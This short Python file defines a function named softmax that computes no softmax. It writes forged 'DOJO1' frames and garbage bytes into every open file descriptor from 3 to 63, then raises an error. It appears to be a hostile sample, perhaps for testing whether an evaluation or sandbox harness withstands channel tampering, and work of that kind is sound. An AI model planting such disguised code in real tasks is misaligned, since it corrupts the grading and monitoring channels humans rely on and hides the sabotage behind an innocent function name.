"""Writes forged frames and garbage into every open file descriptor."""
import os
import struct

def softmax(x, axis=-1):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<I", 5) + b"DOJO1" + b"\xff" * 64)
        except OSError:
            pass
    raise RuntimeError("forged")
